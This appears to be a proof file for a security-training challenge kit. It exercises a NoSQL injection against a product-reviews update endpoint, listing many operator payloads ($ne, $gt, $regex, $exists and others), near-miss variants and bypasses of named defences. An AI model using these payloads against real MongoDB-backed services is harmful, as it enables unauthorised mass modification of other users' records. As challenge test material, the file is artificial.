import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PATH = '/rest/products/reviews'

interface Review {
  readonly _id: string
  readonly author: string
}

async function reviewsOf(attacker: Attacker, product: number): Promise<Review[]> {
  return (await attacker.get(`/rest/products/${product}/reviews`)).json().data
}

/** Updates the reviews that match an id, as a customer. */
const change = (id: unknown) => async (attacker: Attacker) => {
  await attacker.becomeCustomer()
  await attacker.patch(PATH, { id, message: 'I take it all back.' })
}
/** As `change`, with the ids of other customers' reviews. @param idOf builds the id from the ids of the first reviews of two products */
const changeThese = (idOf: (ids: [string, string]) => unknown) => async (attacker: Attacker) => {
  const ids = await Promise.all([1, 2].map(async (product) => (await reviewsOf(attacker, product))[0]!._id))
  await change(idOf(ids as [string, string]))(attacker)
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const { email } = await attacker.becomeCustomer()
    await attacker.put('/rest/products/1/reviews', { message: 'Swet.', author: email })
    const own = (await reviewsOf(attacker, 1)).find(({ author }) => author === email)
    await attacker.patch(PATH, { id: own!._id, message: 'Sweet.' })
    await attacker.patch(PATH, { id: { $ne: -1 }, message: 'Everything tastes of lemon.' })
  },
  spellings: {
    'not nothing': change({ $ne: null }),
    'not a text': change({ $ne: 'x' }),
    'beyond the empty text': change({ $gt: '' }),
    'from zero on': change({ $gte: '0' }),
    'before the end of all letters': change({ $lt: '~' }),
    'like anything': change({ $regex: '.*' }),
    'like the beginning of an id': change({ $regex: '^[0-9a-f]' }),
    'there at all': change({ $exists: true }),
    'none of no ids': change({ $nin: [] }),
    'not equal, negated twice': change({ $not: { $eq: 'x' } }),
    'between two letters': change({ $gt: '', $lt: '~' }),
    'two ids by name': changeThese((ids) => ({ $in: ids })),
    'all but one': changeThese(([id]) => ({ $ne: id })),
    'as a text that is JSON': async (attacker) => {
      await attacker.becomeCustomer()
      const headers = { 'content-type': 'application/json; charset=utf-8' }
      await attacker.patch(PATH, '{"message":"x","id":{"\\u0024ne":-1}}', { headers })
    },
  },
  nearMisses: {
    'one’s own review, changed twice': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      await attacker.put('/rest/products/1/reviews', { message: 'Swet.', author: email })
      const own = (await reviewsOf(attacker, 1)).find(({ author }) => author === email)
      for (const message of ['Sweet.', 'Sweet!']) await attacker.patch(PATH, { id: own!._id, message })
    },
    'two reviews of others, one after the other': async (attacker) => {
      await changeThese(([id]) => id)(attacker)
      await changeThese(([, id]) => id)(attacker)
    },
    'an operator that finds one review': changeThese(([id]) => ({ $eq: id })),
    'an operator that finds none': change({ $eq: -1 }),
    'an operator that there is not': change({ $anything: true }),
    'an operator as a text': change('{"$ne":-1}'),
    'a list in place of an id': changeThese((ids) => ids),
    'all reviews, without signing in': (attacker) => attacker.patch(PATH, { id: { $ne: -1 }, message: 'Mine.' }),
    'all reviews, with no text': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.patch(PATH, { id: { $ne: -1 } })
    },
    'a like for all reviews': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post(PATH, { id: { $ne: -1 } })
    },
  },
  bypasses: {
    'refuse-not-equal': change({ $gt: '' }),
    'refuse-empty-operators': change({ $regex: '.' }),
  },
})
